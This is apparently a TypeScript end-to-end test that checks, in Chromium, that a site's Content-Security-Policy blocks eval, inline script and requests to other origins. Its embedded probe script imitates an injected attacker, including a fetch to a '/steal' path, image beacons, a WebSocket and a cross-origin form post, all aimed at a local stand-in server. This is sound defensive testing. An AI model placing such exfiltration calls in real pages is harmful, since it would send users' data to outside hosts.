import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import type { Browser } from "playwright-core";
import { launchChromium, watchPage } from "../e2e/helpers/browser";
import { serveFolder, type StaticServer } from "../e2e/helpers/serve";

/**
 * The pages' Content-Security-Policy does its job in a real browser: a script of
 * ours cannot eval, build a Function, run inline script, or reach another origin
 * by fetch, image, WebSocket or form. test/build/bundle-size.test.ts checks that
 * every built page carries this policy first in its head; here the policy itself
 * (webpack.config.js's contentSecurityPolicy) meets chromium.
 */

jest.setTimeout(120_000);

// eslint-disable-next-line @typescript-eslint/no-require-imports -- the config is CommonJS
const { contentSecurityPolicy } = require("../../webpack.config.js") as {
  contentSecurityPolicy(options: { cdn: boolean; dev: boolean }): string;
};

/** A page script trying everything an injected script would try, reporting what worked. */
const PROBE = `
window.results = {};
const attempt = async (name, action) => {
  try { window.results[name] = "ran: " + String(await action()); }
  catch (error) { window.results[name] = "blocked: " + error.name; }
};
window.probe = async (other) => {
  await attempt("eval", () => eval("1 + 1"));
  await attempt("new Function", () => new Function("return 2")());
  await attempt("setTimeout string", () => new Promise((resolve) => {
    window.__timer = false;
    setTimeout("window.__timer = true", 0);
    setTimeout(() => resolve(window.__timer), 50);
  }));
  await attempt("fetch other origin", () => fetch(other + "/steal?d=1").then((r) => r.status));
  await attempt("image other origin", () => new Promise((resolve, reject) => {
    const img = new Image();
    img.onload = () => resolve("loaded");
    img.onerror = () => reject(new Error("img"));
    img.src = other + "/pixel.png";
  }).catch(() => { throw Object.assign(new Error(), { name: "ImageBlocked" }); }));
  await attempt("websocket", () => new Promise((resolve, reject) => {
    const ws = new WebSocket(other.replace("http", "ws") + "/ws");
    ws.onopen = () => resolve("open");
    ws.onerror = () => reject(Object.assign(new Error(), { name: "WebSocketBlocked" }));
  }));
  await attempt("fetch own origin", () => fetch("/probe.js").then((r) => r.status));
  return { results: window.results, inline: window.inlineRan === true, violations: window.violations };
};
window.violations = [];
document.addEventListener("securitypolicyviolation", (e) => window.violations.push(e.violatedDirective));
// Run by the page itself: code evaluated through the DevTools protocol is exempt from the policy.
window.addEventListener("load", () => {
  window.probe(new URLSearchParams(location.search).get("other")).then((r) => { window.done = r; });
});
`;

describe("the Content-Security-Policy in chromium", () => {
  let dir: string;
  let server: StaticServer;
  let other: http.Server;
  let otherOrigin: string;
  let browser: Browser;
  const otherHits: string[] = [];

  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), "selfeval-csp-"));
    const csp = contentSecurityPolicy({ cdn: false, dev: false });
    writeFileSync(
      path.join(dir, "page.html"),
      `<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="${csp}">` +
        `<script src="probe.js"></script><script>window.inlineRan = true;</script></head>` +
        `<body><form id="f" action="OTHER/form" method="post"><input name="x" value="1"></form></body></html>`
    );
    writeFileSync(path.join(dir, "probe.js"), PROBE);
    server = await serveFolder(dir);
    // Another origin on this machine, standing for any outside server: it counts every hit.
    other = http.createServer((req, res) => {
      otherHits.push(req.url ?? "");
      res.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("ok");
    });
    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
    otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await new Promise((resolve) => other?.close(resolve));
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it("blocks eval, Function, inline script and every request to another origin", async () => {
    const page = await browser.newPage();
    await watchPage(page, server.origin);
    // Let requests to the other origin through the test's router: only the policy may stop them.
    await page.route(`${otherOrigin}/**`, (route) => route.continue());
    await page.goto(`${server.origin}/page.html?other=${encodeURIComponent(otherOrigin)}`);
    await page.waitForFunction(() => (window as unknown as { done?: unknown }).done !== undefined);
    const outcome = (await page.evaluate(() => (window as unknown as { done: unknown }).done)) as {
      results: Record<string, string>;
      inline: boolean;
      violations: string[];
    };

    expect(outcome.inline).toBe(false);
    expect(outcome.results).toEqual({
      eval: "blocked: EvalError",
      "new Function": "blocked: EvalError",
      "setTimeout string": "ran: false",
      "fetch other origin": "blocked: TypeError",
      "image other origin": "blocked: ImageBlocked",
      websocket: expect.stringMatching(/^blocked: /),
      "fetch own origin": "ran: 200",
    });
    // A form posting elsewhere is stopped by form-action 'self'.
    await page.evaluate((o) => {
      const form = document.getElementById("f") as HTMLFormElement;
      form.action = `${o}/form`;
      form.submit();
    }, otherOrigin);
    await page.waitForTimeout(300);
    expect(otherHits).toEqual([]);
    const violations = await page.evaluate(
      () => (window as unknown as { violations: string[] }).violations
    );
    expect(new Set(violations)).toEqual(
      new Set(["script-src-elem", "script-src", "connect-src", "img-src", "form-action"])
    );
  });
});
